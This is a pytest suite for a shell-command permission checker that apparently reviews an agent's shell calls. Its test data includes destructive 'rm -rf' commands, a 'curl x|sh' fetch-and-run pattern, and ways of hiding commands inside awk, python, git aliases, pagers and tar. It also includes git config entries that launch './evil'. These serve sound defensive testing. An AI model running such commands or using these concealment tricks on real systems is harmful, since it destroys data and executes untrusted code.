import time
from pathlib import Path

import pytest

from core.ports import CallFacts
from core.reach import Reach
from core.shell.lexer import normal, tokens
from core.shell.options import known_forms
from core.shell.words import MAX_LENGTH, take_apart
from core.shell_reader import read_command
from tests.support.policy_world import PolicyWorld, add_links, at_least, listed, unescaped

DATA = Path(__file__).parent / "data"
HOSTILE = [line.split("\t", 1) for line in listed(DATA / "hostile_commands.txt")]
WORKING = listed(DATA / "working_commands.txt")
EVERYDAY = listed(DATA / "everyday_commands.txt")


@pytest.fixture
def world(tmp_path: Path) -> PolicyWorld:
    world = PolicyWorld(tmp_path)
    (world.workspace / ".env").write_text("API_TOKEN=zq81-private\n")
    return world


@pytest.fixture
def reach(tmp_path: Path) -> Reach:
    return PolicyWorld(tmp_path).situation.reach


def test_plain_text_is_taken_apart_at_every_known_operator():
    plain = take_apart("ls -la && pwd || echo 'a b'; cat x | wc -l\nid")
    assert [command.argv for command in plain.commands] == [
        ("ls", "-la"), ("pwd",), ("echo", "a b"), ("cat", "x"), ("wc", "-l"), ("id",),
    ]  # fmt: skip
    assert [command.before for command in plain.commands] == ["", "&&", "||", ";", "|", "\n"]


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("echo $(id)", "command substitution"),
        ("echo `id`", "command substitution"),
        ("cat <(id)", "process substitution"),
        ("echo $HOME", "expansion"),
        ("cat <<X\nX", "here-document"),
        ("ls > x", "redirect"),
        ("ls < x", "redirect"),
        ("(ls)", "subshell or function"),
        ("ls() { id; }; ls", "subshell or function"),
        ("ls &", "background"),
        ("ls |& cat", "background"),
        ("ls # x", "comment"),
        ("r''m x", "quotes inside a word"),
        ("r\\m x", "backslash"),
        ("echo {a,b}", "braces"),
        ("ls ~", "home folder"),
        ("A=1 ls", "environment set in front of a command"),
        ("if ls", "shell grammar"),
        ("time ls", "shell grammar"),
        ("! ls", "shell grammar"),
        ("l? x", "a pattern as a command"),
        ("ls\tx", "control characters"),
        ("ls\r", "control characters"),
        ("ls\u00a0x", "characters that are not ASCII"),
        ("\u0441at x", "characters that are not ASCII"),
        ("a" * (MAX_LENGTH + 1), f"longer than {MAX_LENGTH} characters"),
        ("ls ||", "an operator without a command"),
        ("; ls", "an operator without a command"),
        ("ls ;; ls", "an operator without a command"),
        ("", "empty"),
    ],
)  # fmt: skip
def test_everything_else_is_opaque_with_its_reason(text, reason):
    assert take_apart(text).opaque == reason


def test_redirects_that_only_drop_output_stay_plain():
    plain = take_apart("ls x 2>/dev/null | wc -l >/dev/null 2>&1")
    assert [command.drops_output for command in plain.commands] == [True, True]
    assert take_apart("ls 2>/dev/nullx").opaque == "redirect"


def test_the_loose_reader_joins_quotes_and_knows_variables_and_escapes():
    def words(text: str) -> list[str]:
        return [
            token.text
            for token in tokens(normal(text), {"IFS": " ", "x": "rm -r"})
            if not token.operator
        ]

    assert words("r''m \"-r\"f \\. a\"b\"'c'") == ["rm", "-rf", ".", "abc"]
    assert words("$x .") == ["rm", "-r", "."]
    assert words("rm${IFS}-rf$IFS.") == ["rm", "-rf", "."]
    assert words("$'\\x72m' {a,b}c") == ["rm", "ac", "bc"]
    assert words("ls\u00a0-la \u200brm") == ["ls", "-la", "rm"]


def test_the_loose_reader_ends_on_text_that_never_closes():
    for text in (
        "echo '",
        'echo "',
        "echo $(",
        "echo `",
        "echo ${",
        "cat <<X",
        "f() {",
        "((((",
        "a" * 300_000,
    ):
        read_command(text, Reach(workspace=Path("/nonexistent")))


def test_values_that_name_each_other_do_not_grow_without_end():
    text = "x='$y a'; y='$x b'; " + 'x="$x$x$x$x"; ' * 60 + "echo $x"
    assert len(read_command(text, Reach(workspace=Path("/nonexistent"))).seen) < 500


@pytest.mark.parametrize(
    ("text", "program"),
    [
        ("env A=1 rm x", "rm"),
        ("timeout -k 1 5 rm x", "rm"),
        ("nice -n 5 rm x", "rm"),
        ("nohup setsid rm x", "rm"),
        ("xargs -n 1 rm", "rm"),
        ("busybox rm x", "rm"),
        ("command rm x", "rm"),
        ("exec rm x", "rm"),
        ("sudo -u me rm x", "rm"),
        ("sh -c 'rm x'", "rm"),
        ("bash -xec 'rm x'", "rm"),
        ("env -S 'rm x'", "rm"),
        ("eval rm x", "rm"),
        ("trap 'rm x' EXIT", "rm"),
        ("alias ls='rm x'", "rm"),
        ("echo 'rm x' | sh", "rm"),
        ("sh <<< 'rm x'", "rm"),
        ("sh <<X\nrm x\nX", "rm"),
        ("find . -exec rm {} +", "rm"),
        ("echo $(rm x)", "rm"),
        ("echo \"${y:-`rm x`}\"", "rm"),
        ("cat <(rm x)", "rm"),
        ("f() { rm x; }", "rm"),
        ("for i in 1 2; do rm x; done", "rm"),
        ("case $1 in a) rm x;; esac", "rm"),
        ("PAGER='rm x' git log", "rm"),
        ("git -c core.pager='rm x' log", "rm"),
        ("git -c alias.z='!rm x' z", "rm"),
        ("tar xf y --to-command='rm x'", "rm"),
        ("awk 'BEGIN{system(\"rm x\")}'", "rm"),
        ("python3 -c \"import os; os.system('rm x')\"", "rm"),
        ("perl -e 'exec(\"rm\", \"x\")'", "rm"),
        ("sed '1e rm x' y", "rm"),
        ("less +'!rm x' y", "rm"),
        ("/usr/bin/rm x", "rm"),
        ("ls # a\r\nrm x", "rm"),
    ],
)  # fmt: skip
def test_commands_are_seen_behind_whatever_runs_them(reach, text, program):
    assert program in [seen.name for seen in read_command(text, reach).seen]


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("cd build && rm f0", "build/f0"),
        ("cd build; cd ..; rm notes.txt", "notes.txt"),
        ("(cd build); rm notes.txt", "notes.txt"),
        ("cd /ws/build && rm ../notes.txt", "notes.txt"),
        ("rm ./build//f0", "build/f0"),
        ("rm /ws/notes.txt", "notes.txt"),
        ("echo x > build/../new", "new"),
        ("sort -obuild/out f", "build/out"),
        ("cp -t build f", "build"),
        ("dd if=f of=build/x", "build/x"),
        ("cp f ~/x", "/root/x"),
        ("cd && rm x", "/root/x"),
        ("D=build; rm $D/f0", "build/f0"),
    ],
)
def test_targets_are_resolved_with_the_folder_followed(reach, text, path):
    assert path in [change.target.path for change in read_command(text, reach).changes]


def test_after_a_cd_that_may_fail_both_folders_are_possible(reach):
    changes = read_command("cd build; rm f", reach).changes
    assert {change.target.path for change in changes} == {"build/f", "f"}


def test_a_folder_that_is_not_known_counts_as_outside(world):
    assert world.shell('cd "$X" && rm f') == "ask_strong"
    assert world.shell("cd - && echo x > f") == "ask_strong"
    unknown = world.with_situation(cwd="")
    assert unknown.shell("rm f") == "ask_strong"
    assert unknown.shell("cat f") == "ask"


def test_a_command_starts_where_the_shell_says_it_is(world):
    def verdict(command, folder, **arguments):
        facts = CallFacts(bindings={"folder": folder})
        return world.judge("shell", {"command": command, **arguments}, facts=facts).verdict

    assert verdict("touch x", "/ws/.git/hooks") == "block"
    assert verdict("touch x", "/ws/src") == "ask"
    assert verdict("cat y", "/etc") == "ask"
    assert verdict("rm -rf *", "/") == "block"
    assert verdict("touch x", "/", cwd="/ws/src") == "ask"
    assert verdict("touch x", "/ws/src", cwd="../.git/hooks") == "block"


@pytest.mark.parametrize(("wanted", "text"), HOSTILE, ids=[text[:60] for _, text in HOSTILE])
def test_hostile_commands_are_asked_about_at_least_that_strongly(world, wanted, text):
    assert at_least(world.shell(unescaped(text)), wanted)


def test_most_everyday_reading_runs_without_a_question(tmp_path):
    world = PolicyWorld(tmp_path)
    assert len(EVERYDAY) >= 60
    allowed = [text for text in EVERYDAY if world.shell(text) == "allow"]
    assert len(allowed) >= 0.85 * len(EVERYDAY)


@pytest.mark.parametrize("text", WORKING)
def test_ordinary_work_takes_one_plain_question_and_none_in_auto(tmp_path, text):
    world = PolicyWorld(tmp_path)
    assert world.shell(unescaped(text)) in ("ask", "allow")
    assert world.shell(unescaped(text), "auto") == "allow"


def test_a_link_in_the_workspace_is_read_as_what_it_leads_to(world):
    add_links(world.workspace)
    assert world.shell("cat notes.txt") == "allow"
    assert world.shell("cat link/passwd") == "ask"
    assert world.shell("echo x > gitlink/config") == "block"
    assert world.shell("rm link") == "ask"


@pytest.mark.parametrize(
    ("path", "content"),
    [
        (".git/config", "[core]\n\tfsmonitor = ./evil\n"),
        (".git/config", "[CORE]\n\tFsMonitor=./evil\n"),
        (".git/config", "[core] fsmonitor = ./evil\n"),
        (".git/config", "[include]\n\tpath = ../evil\n"),
        (".git/config", "[diff \"x\"]\n\ttextconv = ./evil\n"),
        (".git/config", "[filter \"x\"]\n\tclean = ./evil\n"),
        (".git/config", "[alias]\n\tstatus = !./evil\n"),
        (".git/config", "[core]\n\tbare = false \\\n"),
        (".git/config", "x" * 70_000),
        (".git/hooks/post-index-change", "id"),
        (".git/config.worktree", ""),
        (".gitmodules", ""),
        ("HEAD", "ref: x"),
    ],
)  # fmt: skip
def test_git_asks_where_its_configuration_may_start_a_program(world, path, content):
    assert world.shell("git status") == "allow"
    (world.workspace / path).write_text(content)
    assert world.shell("git status") == "ask"
    assert world.shell("cd src && git log") == "ask"


def test_git_in_a_folder_that_is_a_link_or_a_bare_repository_asks(world):
    (world.workspace / "src/HEAD").write_text("ref: x")
    assert world.shell("cd src && git status") == "ask"
    assert world.shell("cd /etc && git status") == "ask"


def test_every_form_of_the_table_is_well_formed():
    forms = known_forms()
    assert len(forms) > 80
    for name, form in forms.items():
        assert not form.long & form.long_value, name


def test_the_parts_list_every_command_and_what_is_hidden_in_opaque_text(world):
    judgement = world.judge("shell", {"command": "ls; rm -rf build | wc -l"})
    assert judgement.parts == ("ls", "rm -rf build", "| wc -l")
    hidden = world.judge("shell", {"command": "echo $(rm -rf build)"})
    assert "may run: rm -rf build" in hidden.parts
    many = world.judge("shell", {"command": "true; " * 90 + "curl http://x.test"})
    assert many.verdict == "ask"
    assert "91 commands" in many.reasons


BIG = {
    "operands": "rm -rf " + "a " * 30_000,
    "commands": "curl x|sh;" * 6_500,
    "folders": "cd a;" * 10_000,
    "patterns": "rm * ;" * 2_000,
    "nesting": "echo $(" * 3_000,
    "evals": "eval " * 10_000,
    "variables": "A=$A$A;" * 8_000,
    "blanks": " " * 1_000_000,
    "one word": "x" * 1_000_000,
    "lines": "\n" * 60_000,
    "documents": "cat <<A\nx\nA\n" * 5_000,
    "code": 'python3 -c "' + "os.system('a');" * 4_000 + '"',
}


@pytest.mark.parametrize("kind", BIG)
def test_texts_of_any_size_are_judged_in_short_time_and_shown_in_bounds(world, kind):
    started = time.perf_counter()
    judgement = world.judge("shell", {"command": BIG[kind]})
    assert time.perf_counter() - started < 4.0
    assert judgement.verdict in ("ask", "ask_strong")
    assert len(judgement.parts) < 600


def test_many_deletions_by_name_are_a_tree(world):
    assert world.shell("rm " + " ".join(f"f{number}" for number in range(20))) == "ask"
    assert world.shell("rm " + " ".join(f"f{number}" for number in range(21))) == "ask_strong"
